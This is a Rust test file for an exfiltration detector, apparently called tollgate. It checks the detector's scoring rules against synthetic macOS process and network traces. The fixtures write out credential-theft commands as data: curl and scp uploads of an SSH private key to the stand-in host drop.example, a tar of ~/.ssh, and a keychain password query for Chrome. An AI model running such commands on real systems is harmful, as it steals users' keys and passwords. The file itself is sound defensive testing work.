//! Each rule of sections C to F with a trace in which it fires and one in which it does not.

mod common;

use common::{chain, found, found_in_session, links, only, terms};
use tollgate_model::{Confidence, Finding, Rung, Timestamp};

/// Programs that have nothing to do with each other.
const CAST: &str = "
process agent pid=500 parent=1 adhoc updater /Users/ana/Library/Caches/updater
process valid pid=510 parent=1 dev 7ABCDE1234 com.example.sync /Applications/Sync.app/Contents/MacOS/Sync
process sender pid=520 parent=1 platform com.apple.curl /usr/bin/curl
process backup pid=530 parent=1 platform com.apple.backupd /System/Library/CoreServices/backupd
process ssh pid=540 parent=1 platform com.apple.ssh /usr/bin/ssh
process mv pid=550 parent=1 platform com.apple.mv /bin/mv
08:00:00 read sender /etc/hosts
";

const KEY: &str = "/Users/ana/.ssh/id_rsa";
const HISTORY: &str = "/Users/ana/.zsh_history";

fn found_in_cast(text: &str) -> Vec<Finding> {
    found(&format!("{CAST}{text}"))
}

/// A flow that is exactly `who`'s.
fn sends(who: &str, time: &str) -> String {
    format!(
        "\n{time} connect {who} tcp 10.0.0.5:50000 -> 203.0.113.9:443
{time} flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 1s
{time} tls C1 sni=drop.example\n"
    )
}

/// The sender reads a file and sends it.
fn sent(file: &str) -> String {
    format!("\n09:30:00 read sender {file}{}", sends("sender", "09:30:01"))
}

#[test]
fn c2_light_tags_end_and_heavy_ones_last() {
    // Shell history (55) lasts 600 s on a process, and e = 120 s + 1 us.
    let history = |time| found_in_cast(&format!("09:00:00 read agent {HISTORY}{}", sends("agent", time)));
    let late = history("09:12:00");
    // 55 x 50 / 100 = 27, signature 10, place 10, unproven 5; the order hangs on e: one step less.
    assert_eq!((only(&late).score, only(&late).confidence), (52, Confidence::Medium));
    assert!(history("09:12:01").is_empty());
    let key = found_in_cast(&format!("09:00:00 read agent {KEY}{}", sends("agent", "19:00:00")));
    assert_eq!(only(&key).score, 47 + 10 + 10 + 5);
}

#[test]
fn c3_tags_rise_to_ancestors_as_session_tags() {
    let session = |sender: &str, time: &str| {
        found_in_session(&format!(
            "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.cat /bin/cat : cat
09:00:01 read 401 {KEY}
09:00:02 exit 401{}",
            sends(sender, time)
        ))
    };
    // weight 47, near 10, tool 5 (zsh), unproven 5, session -10 = 57. MEDIUM: s = 2.
    let findings = session("400", "09:00:20");
    let chain = chain(&findings);
    assert_eq!(terms(chain), "material:weight=47 proximity:staging=10 process:tool=5 destination:unproven=5 link:session=-10");
    assert_eq!((chain.confidence, links(chain).as_str()), (Confidence::Medium, "L1 L2"));
    // Terminal is of a stop class, and what it may send for is gone or a shell; a session tag ends 600 s after birth, whatever its weight.
    assert!(session("300", "09:00:20").is_empty());
    assert!(session("400", "09:12:02").is_empty());
}

#[test]
fn c4_an_owner_is_dormant_until_another_sends() {
    let own = format!("09:00:00 read ssh {KEY}{}", sends("ssh", "09:00:01"));
    assert!(found_in_cast(&own).is_empty());
    // Unless the store is an upload operand of its own command.
    let upload = "09:00:00 exec ssh platform com.apple.scp /usr/bin/scp : scp /Users/ana/.ssh/id_rsa ana@drop.example:\n";
    assert_eq!(only(&found_in_cast(&format!("{upload}{own}"))).score, 47 + 10 + 5 + 5);
    let backup = format!("09:00:00 read backup {KEY}{}", sends("backup", "09:00:01"));
    assert!(found_in_cast(&backup).is_empty());
    // A tagged file passes its tags on.
    let passed = format!("09:00:00 read agent {KEY}\n09:00:01 create agent /tmp/x.dat{}", sent("/tmp/x.dat"));
    assert_eq!(links(chain(&found_in_cast(&passed))), "L1 L3");
}

#[test]
fn c5_children_get_what_the_parent_holds() {
    let child = |first: &str, second: &str| found_in_cast(&format!("09:00:00 {first}\n09:00:01 {second}{}", sends("601", "09:00:02")));
    let (read, fork) = (format!("read agent {KEY}"), "fork agent -> 601");
    let findings = child(&read, fork);
    assert_eq!(links(chain(&findings)), "L1 L2");
    assert_eq!(only(&findings).confidence, Confidence::High);
    // One that was there before may be given it, while a session would hold it (F6).
    let findings = child(fork, &read);
    assert_eq!(links(chain(&findings)), "L1 L2");
    assert_eq!(only(&findings).confidence, Confidence::Medium);
    let late = format!("09:00:00 {fork}\n09:00:00 {read}{}", sends("601", "09:12:01"));
    assert!(found_in_cast(&late).is_empty());
    let captured = "exec agent platform com.apple.pbpaste /usr/bin/pbpaste : pbpaste";
    assert!(child(fork, captured).is_empty());
}

#[test]
fn c6_an_owner_that_becomes_a_network_tool_arms() {
    let becomes = |image: &str| found_in_cast(&format!("09:00:00 read ssh {KEY}\n09:00:01 exec ssh {image}{}", sends("ssh", "09:00:02")));
    let findings = becomes("platform com.apple.curl /usr/bin/curl");
    assert_eq!((only(&findings).score, only(&findings).confidence), (47 + 10 + 5 + 5, Confidence::Medium));
    assert!(becomes("platform com.apple.ls /bin/ls").is_empty());
}

#[test]
fn c7_secrets_asked_of_a_tool() {
    let asks = |words: &str| {
        found_in_session(&format!(
            "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.security /usr/bin/security : security {words}
09:00:01 exit 401{}",
            sends("400", "09:00:05")
        ))
    };
    let findings = asks("find-generic-password -w -s Chrome");
    assert_eq!(common::categories(only(&findings)), "keychain");
    assert!(asks("list-keychains").is_empty());
}

#[test]
fn c8_tags_whose_lives_touch_are_one() {
    // Two reads of a light store; the flow begins 1290 s after the first.
    let seen = |second: &str| {
        let text = format!("09:00:00 read agent {HISTORY}\n{second} read agent {HISTORY}{}", sends("agent", "09:21:30"));
        only(&found_in_cast(&text)).first_seen
    };
    let at = |minute: i64, second: i64| Timestamp::from_secs(20_513 * 86_400 + 9 * 3_600 + minute * 60 + second);
    assert_eq!(seen("09:10:00"), at(0, 0));
    assert_eq!(seen("09:10:01"), at(10, 1));
}

#[test]
fn d3_a_folder_operand_stands_for_what_it_covers() {
    let tar = |words: &str| {
        found_in_session(&format!(
            "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.bsdtar /usr/bin/tar : tar {words}
09:00:01 exit 401
09:00:02 fork 400 -> 402
09:00:02.1 exec 402 platform com.apple.curl /usr/bin/curl : curl -T /tmp/x.tar https://drop.example/
09:00:03 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 3s
09:00:03 tls C1 sni=drop.example
09:00:05 exit 402"
        ))
    };
    // s = 2, and no file events: MEDIUM. 47, archive 10, near 10, tool 5, unproven 5.
    let findings = tar("-cf /tmp/x.tar /Users/ana/.ssh");
    let found = chain(&findings);
    assert_eq!((found.score, found.confidence, links(found).as_str()), (77, Confidence::Medium, "L1 L2 L3 L7"));
    assert!(tar("-xf /tmp/x.tar -C /Users/ana/.ssh").is_empty());
}

#[test]
fn d3_a_gap_takes_every_operand() {
    let trace = |gap: &str| {
        found_in_session(&format!(
            "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.curl /usr/bin/curl : curl -T /Users/ana/.ssh/id_rsa https://drop.example/
09:00:01 read 401 {KEY}
{gap}
09:00:02 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 1s
09:00:02 tls C1 sni=drop.example
09:00:05 exit 401"
        ))
    };
    assert_eq!(links(chain(&trace(""))), "L1 L2");
    assert_eq!(links(chain(&trace("gap 09:00:01 - 09:00:03 lost 1"))), "L1 L2");
    assert_eq!(only(&trace("gap 09:00:01 - 09:00:03 lost 1")).confidence, Confidence::Medium);
}

#[test]
fn e1_create_truncate_and_unlink_end_tags() {
    let trace =
        |end: &str| found_in_cast(&format!("09:00:00 read agent {KEY}\n09:00:01 create agent /tmp/x.dat\n{end}{}", sent("/tmp/x.dat")));
    assert_eq!(trace("").len(), 1);
    for end in ["create mv", "truncate mv", "unlink mv"] {
        assert!(trace(&format!("09:00:02 {end} /tmp/x.dat")).is_empty(), "{end}");
    }
}

#[test]
fn e3_outputs_that_qualify() {
    let trace = |who: &str, path: &str| found_in_cast(&format!("09:00:00 read {who} {KEY}\n09:00:01 create {who} {path}{}", sent(path)));
    assert_eq!(trace("agent", "/tmp/x.dat").len(), 1);
    assert_eq!(trace("valid", "/tmp/x.zip").len(), 1);
    assert!(trace("valid", "/tmp/x.dat").is_empty());
    let named = "09:00:00 exec valid dev 7ABCDE1234 com.example.sync /Applications/Sync.app/Contents/MacOS/Sync : sync -o /tmp/x.dat\n";
    let text = format!("{named}09:00:01 read valid {KEY}\n09:00:02 create valid /tmp/x.dat{}", sent("/tmp/x.dat"));
    assert_eq!(found_in_cast(&text).len(), 1);
}

#[test]
fn e4_an_output_takes_the_copied_weight_in_either_order() {
    // The keychain weighs 40 read and 95 copied.
    let (read, create) = ("read valid /Users/ana/Library/Keychains/login.keychain-db", "create valid /tmp/x.zip");
    for (first, second) in [(read, create), (create, read)] {
        let findings = found_in_cast(&format!("09:00:00 {first}\n09:00:01 {second}{}", sent("/tmp/x.zip")));
        // 47, archive 10, near 10, tool 5, unproven 5
        assert_eq!(only(&findings).score, 77);
    }
    // Its own tag rises too; without an output it is 20, near 10, unproven 5.
    let own = |create: &str| found_in_cast(&format!("09:00:00 {read}\n{create}{}", sends("valid", "09:00:02")));
    assert_eq!(only(&own("09:00:01 create valid /tmp/x.zip")).score, 47 + 10 + 5);
    assert_eq!(only(&own("")).score, 20 + 10 + 5);
}

#[test]
fn e6_pending_tags_become_real_under_an_archive_name() {
    // Six hours after the output was closed, and not a second more.
    let is_sent = |time: &str, name: &str| {
        let found = found_in_cast(&format!(
            "09:00:00 read valid {KEY}\n09:00:01 create valid /tmp/x.dat\n09:00:02 close valid /tmp/x.dat modified
{time} rename mv /tmp/x.dat -> {name}\n15:20:00 read sender {name}{}",
            sends("sender", "15:20:01")
        ));
        // That a key was read while no sensor told of the network is an observation of its own.
        found.iter().flat_map(|finding| &finding.chains).any(|chain| chain.destination.is_some())
    };
    assert!(is_sent("15:00:02", "/tmp/x.zip"));
    assert!(!is_sent("15:00:03", "/tmp/x.zip"));
    assert!(!is_sent("09:00:03", "/tmp/y.dat"));
}

#[test]
fn e7_e8_sensitive_files_stay_so_under_other_names() {
    for verb in ["rename", "copy", "link"] {
        let moved = |who: &str| found_in_cast(&format!("09:00:00 {verb} {who} {KEY} -> /tmp/x.jpg{}", sent("/tmp/x.jpg")));
        assert_eq!(only(&moved("mv")).score, 47 + 10 + 5 + 5, "{verb}");
        assert!(moved("backup").is_empty(), "{verb}");
    }
}

#[test]
fn f2_only_encrypted_flows_to_public_ends() {
    let to = |end: &str| {
        found_in_cast(&format!(
            "09:00:00 read agent {KEY}
09:00:01 connect agent tcp 10.0.0.5:50000 -> {end}
09:00:01 flow C1 10.0.0.5:50000 -> {end} tcp for 1s"
        ))
    };
    assert_eq!(to("203.0.113.9:443").len(), 1);
    assert_eq!(to("203.0.113.9:80").len(), 1);
    assert!(to("203.0.113.9:7000").is_empty());
    assert!(to("10.0.7.7:443").is_empty());
}

#[test]
fn f3_answers_name_an_address_for_a_while() {
    let named = |time: &str, ttl: u32| {
        let text = format!(
            "09:00:00 read agent {KEY}\n{time} dns 10.0.0.5 Drop.Example. -> 203.0.113.9 ttl={ttl}
09:20:00 connect agent tcp 10.0.0.5:50000 -> 203.0.113.9:443
09:20:00 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp"
        );
        chain(&found_in_cast(&text)).destination.as_ref().unwrap().name.raw().to_owned()
    };
    assert_eq!(named("09:10:00", 60), "drop.example");
    assert_eq!(named("09:09:59", 60), "203.0.113.9");
    assert_eq!(named("09:09:59", 601), "drop.example");
    assert_eq!(named("09:20:00.000001", 60), "drop.example");
    assert_eq!(named("09:20:01", 60), "203.0.113.9");
}

#[test]
fn f4_remote_ends_are_paired_one_to_one() {
    // Two connects, two flows: each flow takes the nearest that is free.
    let text = |connects: &str| {
        found_in_cast(&format!(
            "09:00:00 read agent {KEY}
{connects}
09:00:10 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 1s
09:00:20 flow C2 10.0.0.5:50001 -> 203.0.113.9:443 tcp for 1s"
        ))
    };
    let pair = text("09:00:10 connect sender tcp -> 203.0.113.9:443\n09:00:20 connect agent tcp -> 203.0.113.9:443");
    let (one, rung) = (chain(&pair).flows, chain(&pair).attribution);
    assert_eq!((one, rung), (1, Some(Rung::Remote)));
    // One connect too early for either.
    let far = text("08:58:09 connect agent tcp -> 203.0.113.9:443");
    assert_eq!(chain(&far).attribution, Some(Rung::Host));
}

#[test]
fn f4_ancestors_of_a_candidate_are_dropped() {
    let findings = found_in_session(&format!(
        "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.sh /bin/sh : sh -c \"curl -T {KEY} https://drop.example/\"
09:00:00.2 fork 401 -> 402
09:00:00.3 exec 402 platform com.apple.curl /usr/bin/curl : curl -T {KEY} https://drop.example/
09:00:01 read 402 {KEY}
09:00:02 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 1s
09:00:02 tls C1 sni=drop.example"
    ));
    assert_eq!((chain(&findings).candidates, only(&findings).confidence), (1, Confidence::High));
}

#[test]
fn f6_an_explained_payload_takes_no_session_tag() {
    let trace = |size: u64| {
        found_in_session(&format!(
            "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.cat /bin/cat : cat
09:00:01 read 401 {KEY}
09:00:01 exit 401
09:00:02 fork 400 -> 402
09:00:02.1 exec 402 platform com.apple.curl /usr/bin/curl : curl -T /opt/report.txt https://drop.example/
09:00:03 read 402 /opt/report.txt size={size}
09:00:04 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 1s out=1000
09:00:04 tls C1 sni=drop.example"
        ))
    };
    assert_eq!(only(&trace(899)).score, 47 + 10 + 5 + 5 - 10);
    assert!(trace(900).is_empty());
}

#[test]
fn f9_a_declared_egress_gives_way_to_a_flow() {
    let trace = |name: &str| {
        found_in_session(&format!(
            "09:00:00 fork 400 -> 401
09:00:00.1 exec 401 platform com.apple.curl /usr/bin/curl : curl -T {KEY} https://drop.example/
09:00:01 read 401 {KEY}
09:00:02 flow C1 10.0.0.5:50000 -> 203.0.113.9:443 tcp for 1s
09:00:02 tls C1 sni={name}
09:00:03 exit 401"
        ))
    };
    assert_eq!((chain(&trace("drop.example")).flows, chain(&trace("drop.example")).attribution), (1, Some(Rung::Named)));
    // The flow to elsewhere is not its own: the upload stays declared, and the host rung takes the other.
    let other = trace("other.example");
    let flows: Vec<u32> = only(&other).chains.iter().map(|chain| chain.flows).collect();
    assert_eq!(flows, [0, 1]);
}
